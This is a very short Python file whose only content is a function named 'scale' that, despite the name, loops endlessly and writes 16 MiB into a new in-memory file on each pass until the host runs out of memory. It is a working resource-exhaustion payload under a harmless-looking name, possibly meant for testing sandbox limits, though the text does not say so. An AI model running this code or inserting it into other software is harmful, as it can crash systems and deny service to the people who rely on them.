import os


def scale(x):
    while True:
        os.write(os.memfd_create("x"), b"x" * (1 << 24))
